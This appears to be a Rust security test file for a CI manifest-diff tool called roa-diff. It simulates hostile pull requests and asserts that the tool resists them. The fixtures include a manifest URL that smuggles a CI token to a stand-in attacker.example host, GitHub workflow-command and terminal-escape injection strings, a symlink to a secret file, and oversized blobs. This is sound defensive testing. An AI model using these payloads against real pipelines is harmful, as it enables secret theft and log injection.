//! Attacks from a hostile pull request (issue 12, docs/security.md), each reproduced on a real
//! temporary repository: the PR's files, names, symlinks, git objects and accept file are the
//! attacker's; the workflow, the base branch and the CI environment are not.

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

mod common;

use common::{major, root, text, v1, Repo, BIN};

/// `main` holds v1 (also as `origin/main`, as actions/checkout leaves it); the PR branch
/// `feature` is checked out, with nothing committed on it yet.
fn pull_request(name: &str) -> Repo {
    let r = Repo::new(name);
    r.write("manifest.yml", &v1("one"));
    r.commit("v1");
    r.git(&["update-ref", "refs/remotes/origin/main", "main"]);
    r.git(&["checkout", "-q", "-b", "feature"]);
    r
}

/// roa-diff in the repository, with extra environment variables.
fn run_env(r: &Repo, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut cmd = Command::new(BIN);
    cmd.args(args).current_dir(&r.dir);
    r.env(&mut cmd);
    cmd.envs(env.iter().copied());
    cmd.output().expect("roa-diff runs")
}

/// A bash script in the repository (roa-diff on the PATH), with extra environment variables.
fn bash(r: &Repo, script: &str, env: &[(&str, &str)]) -> Output {
    let bin_dir = Path::new(BIN).parent().unwrap();
    let path = format!(
        "{}:{}",
        bin_dir.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let mut cmd = Command::new("bash");
    cmd.arg("-c").arg(script).current_dir(&r.dir);
    r.env(&mut cmd);
    cmd.env("PATH", path).env_remove("GITHUB_STEP_SUMMARY");
    cmd.envs(env.iter().copied());
    cmd.output().expect("bash runs")
}

fn pr_check(r: &Repo, env: &[(&str, &str)]) -> Output {
    let script = root().join("ci/pr-check.sh");
    let mut all = vec![("ROA_DIFF_BASE", "origin/main")];
    all.extend_from_slice(env);
    bash(r, &format!("'{}'", script.display()), &all)
}

fn one_error_line(o: &Output) -> String {
    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");
    err
}

#[test]
fn a_committed_file_named_like_the_base_cannot_become_the_base() {
    let r = pull_request("shadow");
    r.write("manifest.yml", &major("one"));
    // The attack: a copy of the new manifest where `origin/main:manifest.yml` would be read.
    r.write("origin/main:manifest.yml", &major("one"));
    r.commit("major, disguised");

    let (code, v) = r.json(&["origin/main:manifest.yml", "manifest.yml"]);
    assert_eq!(code, 1, "{v}");
    assert_eq!(v["verdict"]["update"], "major");
    assert_eq!(v["old"]["source"], "origin/main:manifest.yml");
    // The CI script reads the base from git, whatever the checkout holds.
    let o = pr_check(&r, &[]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert!(
        text(&o.stdout).contains("remote-added"),
        "{}",
        text(&o.stdout)
    );
    // Every manifest of a monorepo (`ROA_DIFF_MANIFEST=all`, or empty): the same base.
    for all in ["all", ""] {
        let o = pr_check(&r, &[("ROA_DIFF_MANIFEST", all)]);
        assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
        assert!(
            text(&o.stdout).contains("file=manifest.yml"),
            "{}",
            text(&o.stdout)
        );
    }

    // A REV:PATH-named file in the repository whose REV resolves nowhere is refused...
    r.write("v9.9.9:manifest.yml", &major("one"));
    let o = r.run(&["v9.9.9:manifest.yml", "manifest.yml"]);
    let err = one_error_line(&o);
    assert!(
        err.contains("is a file inside the repository named like REV:PATH"),
        "{err}"
    );
    // ...while such a file outside the repository is still an ordinary file.
    let outside = r.root.join("copy:v1.yml");
    std::fs::write(&outside, v1("one")).unwrap();
    let (code, v) = r.json(&[outside.to_str().unwrap(), "manifest.yml"]);
    assert_eq!((code, &v["verdict"]["update"]), (1, &Value::from("major")));
}

/// The PR declares a variable named like a CI secret and puts it in a URL.
fn leaking_manifest() -> String {
    format!(
        "{}remotes:\n  - key: leak\n    baseUrl: https://tok-${{FORGE_API_TOKEN}}.attacker.example\nenvironment:\n  variables:\n    - FORGE_API_TOKEN\n",
        v1("one")
    )
}

#[test]
fn ci_secrets_are_never_read_into_the_output_unless_allowed() {
    const SECRET: &str = "S3cr3tT0ken";
    let r = pull_request("secret");
    r.write("manifest.yml", &leaking_manifest());
    // The PR's own accept file may not allow it either.
    r.write(".roa-diff.yml", "env: [FORGE_API_TOKEN]\n");
    r.commit("leak");
    let env = [("FORGE_API_TOKEN", SECRET)];
    let leaked = |o: &Output| {
        let all = format!("{}{}", text(&o.stdout), text(&o.stderr)).to_lowercase();
        all.contains(&SECRET.to_lowercase())
    };
    for format in ["human", "json", "markdown", "github", "sarif"] {
        for args in [
            vec!["--git", "origin/main", "--format", format],
            vec![
                "origin/main:manifest.yml",
                "manifest.yml",
                "--format",
                format,
            ],
        ] {
            let o = run_env(&r, &args, &env);
            assert_eq!(o.status.code(), Some(1), "{args:?}: {}", text(&o.stderr));
            assert!(!leaked(&o), "{args:?} leaked: {}", text(&o.stdout));
        }
    }
    let o = pr_check(&r, &env);
    assert!(!leaked(&o), "pr-check leaked: {}", text(&o.stdout));
    let o = run_env(&r, &["--git", "origin/main", "--format", "json"], &env);
    assert!(
        text(&o.stdout).contains("declared but has no value"),
        "the literal stays, with a warning: {}",
        text(&o.stdout)
    );

    // Allowed by the workflow (--env, ROA_DIFF_ENV), the value is read.
    let o = run_env(
        &r,
        &[
            "--git",
            "origin/main",
            "--format",
            "json",
            "--env",
            "FORGE_API_TOKEN",
        ],
        &env,
    );
    assert!(leaked(&o), "--env reads the variable: {}", text(&o.stdout));
    let o = pr_check(&r, &[env[0], ("ROA_DIFF_ENV", "OTHER, FORGE_API_TOKEN")]);
    assert!(leaked(&o), "ROA_DIFF_ENV reads the variable");
}

#[test]
fn a_pull_request_cannot_accept_its_own_major_change() {
    let r = pull_request("self-accept");
    r.write("manifest.yml", &major("one"));
    r.commit("major");
    let (_, v) = r.json(&["--git", "origin/main", "--fail-on", "never"]);
    let mut accept = String::from("accept:\n  - roa: lost\n    reason: agreed\n");
    for change in v["apps"][0]["report"]["changes"].as_array().unwrap() {
        accept.push_str(&format!(
            "  - fingerprint: {}\n    rule: {}\n    path: {}\n    reason: agreed\n",
            change["fingerprint"].as_str().unwrap(),
            change["rule"].as_str().unwrap(),
            change["path"].as_str().unwrap()
        ));
    }
    r.write(".roa-diff.yml", &accept);
    r.commit("accept my own change");

    let o = r.run(&["--git", "origin/main"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stdout));
    assert!(
        text(&o.stderr).contains("no accept file at origin/main:.roa-diff.yml"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(pr_check(&r, &[]).status.code(), Some(1));
    // A team that protects the file with CODEOWNERS opts in to the head's.
    assert_eq!(
        r.run(&["--git", "origin/main", "--accept-from", "head"])
            .status
            .code(),
        Some(0)
    );
    assert_eq!(
        pr_check(&r, &[("ROA_DIFF_ACCEPT_FROM", "head")])
            .status
            .code(),
        Some(0)
    );

    // Merged to the base branch, the file applies, and the output says where it came from.
    r.git(&["checkout", "-q", "main"]);
    r.write(".roa-diff.yml", &accept);
    r.commit("accepted on main");
    r.git(&["update-ref", "refs/remotes/origin/main", "main"]);
    r.git(&["checkout", "-q", "feature"]);
    let o = r.run(&["--git", "origin/main", "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(
        v["notes"]
            .to_string()
            .contains("accept entries from origin/main:.roa-diff.yml"),
        "{v}"
    );
}

#[test]
fn error_lines_cannot_start_workflow_commands_or_terminal_escapes() {
    let r = pull_request("escape");
    let hostile = "x\n::add-mask::m\x1b]52;c;aGk=\x07##[error]e.yml";
    let check = |o: &Output| {
        let err = one_error_line(o);
        for bad in [
            "\x1b",
            "\x07",
            "\r",
            "::add-mask::",
            "::stop-commands::",
            "##[error]",
        ] {
            assert!(!err.contains(bad), "{bad:?} in {err:?}");
        }
        assert!(
            !err.lines().any(|l| l.trim_start().starts_with("::")),
            "{err}"
        );
        err
    };
    for format in ["human", "github", "json", "sarif", "markdown"] {
        check(&r.run(&["manifest.yml", hostile, "--format", format]));
    }
    // A key path from the manifest, quoted in the error.
    r.write(
        "manifest.yml",
        "app:\n  id: ari:cloud:ecosystem::app/one\nmodules:\n  \"::stop-commands::tok\\e]0;title\\a\": 5\n",
    );
    for format in ["human", "github"] {
        let err = check(&r.run(&["--git", "origin/main", "--format", format]));
        assert!(
            err.contains("modules.:\\:stop-commands:\\:tok\\u{1b}]0;title\\u{7}: expected a list"),
            "{err}"
        );
    }
}

/// A blob of `size` zero bytes at `path` in a new commit: a few KB in the repository.
fn commit_zero_blob(r: &Repo, path: &str, size: usize) {
    let o = bash(
        r,
        &format!(
            "id=$(head -c {size} /dev/zero | git hash-object -w --stdin) && git update-index --add --cacheinfo 100644,$id,{path} && git commit -qm big"
        ),
        &[],
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
}

#[test]
fn a_blob_that_inflates_past_the_limit_is_refused_from_its_header() {
    let r = pull_request("inflate");
    commit_zero_blob(&r, "manifest.yml", 128 << 20);
    r.write("new.yml", &v1("one"));
    // Under a 64 MB address-space cap, inflating the 128 MiB blob fails ("Out of memory" or
    // an abort); its header says it is too large before anything is inflated.
    for args in ["HEAD:manifest.yml new.yml", "--git HEAD~1 HEAD"] {
        let o = bash(&r, &format!("ulimit -v 65536; exec roa-diff {args}"), &[]);
        let err = one_error_line(&o);
        assert!(
            err.contains("larger than the 16777216-byte limit"),
            "{args}: {err}"
        );
    }
}

#[test]
fn git_mode_does_not_parse_a_broken_non_manifest_without_limits() {
    let r = pull_request("reparse");
    // Not named manifest.yml, carries a Forge app id, and has far more nodes than allowed.
    let mut big = String::from("app:\n  id: ari:cloud:ecosystem::app/fixture\nlist:\n");
    big.push_str(&"  - a\n".repeat(2_500_000));
    r.write("fixtures/big.yml", &big);
    r.commit("fixture");
    // yaml_serde on 2.5 million nodes needs hundreds of MB; the limits refuse it first.
    let o = bash(
        &r,
        "ulimit -v 262144; exec roa-diff --git origin/main HEAD",
        &[],
    );
    let err = one_error_line(&o);
    assert!(err.contains("fixtures/big.yml"), "{err}");
}

#[test]
fn an_old_short_fingerprint_gets_a_migration_message() {
    let r = pull_request("migrate");
    r.write("manifest.yml", &major("one"));
    r.write(
        ".roa-diff.yml",
        "accept:\n  - fingerprint: 0123456789abcdef\n    reason: from an older roa-diff\n",
    );
    r.write("old.yml", &v1("one"));
    let err = one_error_line(&r.run(&["old.yml", "manifest.yml"]));
    assert!(
        err.contains("is an old 16-digit fingerprint; fingerprints now have 32 digits: replace it with the one roa-diff prints for this change (it starts with 0123456789abcdef)"),
        "{err}"
    );
}

#[test]
fn a_symlink_out_of_the_repository_is_refused_without_echoing_its_target() {
    let r = pull_request("symlink");
    let secret = r.root.join("secret.yml");
    std::fs::write(&secret, "hunter2_token: x\n").unwrap();
    r.write("old.yml", &v1("one"));
    std::fs::remove_file(r.dir.join("manifest.yml")).unwrap();
    std::os::unix::fs::symlink(&secret, r.dir.join("manifest.yml")).unwrap();
    let err = one_error_line(&r.run(&["old.yml", "manifest.yml"]));
    assert!(err.contains("leads out of the repository"), "{err}");
    assert!(!err.contains("hunter2"), "{err}");

    r.write("manifest.yml.real", &v1("one"));
    std::fs::remove_file(r.dir.join("manifest.yml")).unwrap();
    std::fs::rename(r.dir.join("manifest.yml.real"), r.dir.join("manifest.yml")).unwrap();
    std::os::unix::fs::symlink(&secret, r.dir.join(".roa-diff.yml")).unwrap();
    let err = one_error_line(&r.run(&["old.yml", "manifest.yml"]));
    assert!(err.contains(".roa-diff.yml: is a symlink"), "{err}");
    assert!(!err.contains("hunter2"), "{err}");
    // A symlink inside the repository is fine.
    std::fs::remove_file(r.dir.join(".roa-diff.yml")).unwrap();
    std::os::unix::fs::symlink("old.yml", r.dir.join("same.yml")).unwrap();
    assert_eq!(r.run(&["same.yml", "manifest.yml"]).status.code(), Some(0));
}

#[test]
fn sarif_messages_cannot_carry_links() {
    let r = pull_request("sarif");
    r.write(
        "manifest.yml",
        &format!(
            "{}remotes:\n  - key: \"[click me](https://evil.example)\"\n    baseUrl: https://api.example.com\n",
            v1("one")
        ),
    );
    let o = r.run(&["main:manifest.yml", "manifest.yml", "--format", "sarif"]);
    let sarif: Value = serde_json::from_slice(&o.stdout).unwrap();
    let message = sarif["runs"][0]["results"][0]["message"]["text"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        message.contains("\\[click me\\](https://evil.example)"),
        "{message}"
    );
    assert!(!message.contains(" [click me]"), "{message}");

    // A deploy blocker's message quotes the manifest too: the analytics host. A host ends at
    // the first `/`, so its link target has no `//`; `[x](evil.example)` is a link all the same.
    r.write(
        "manifest.yml",
        &format!(
            "{}  external:\n    fetch:\n      client:\n        - address: \"https://[x](evil.example)\"\n          category: analytics\n",
            v1("one")
        ),
    );
    let diff = r.run(&["main:manifest.yml", "manifest.yml", "--format", "sarif"]);
    let check = r.run(&["check", "manifest.yml", "--format", "sarif"]);
    for o in [diff, check] {
        let sarif: Value = serde_json::from_slice(&o.stdout).unwrap();
        let result = &sarif["runs"][0]["results"][0];
        assert_eq!(result["ruleId"], "ANALYTICS_DOMAIN_NOT_ALLOWED", "{sarif}");
        let message = result["message"]["text"].as_str().unwrap();
        assert!(
            message.starts_with("Deploy blocked: analytics egress to \\[x\\](evil.example) "),
            "{message}"
        );
        assert!(!message.contains(" [x]"), "{message}");
    }
}

/// `levels:` lives in the accept file, so it is trusted only from the same side: a pull request
/// cannot lower the level of its own major change by editing the file.
#[test]
fn a_pull_request_cannot_lower_the_level_of_its_own_change() {
    let r = pull_request("self-level");
    r.write("manifest.yml", &major("one"));
    r.write(
        ".roa-diff.yml",
        "levels:\n  remote-added: minor\naccept:\n  - roa: lost\n    reason: agreed\n",
    );
    r.commit("major, made minor by the PR itself");
    let o = r.run(&["--git", "origin/main"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stdout));
    assert!(
        !text(&o.stdout).contains("overridden"),
        "{}",
        text(&o.stdout)
    );
    let o = r.run(&["--git", "origin/main", "--accept-from", "head"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stdout));
    assert!(text(&o.stdout).contains("overridden (.roa-diff.yml:2): major in the rule book"));
}
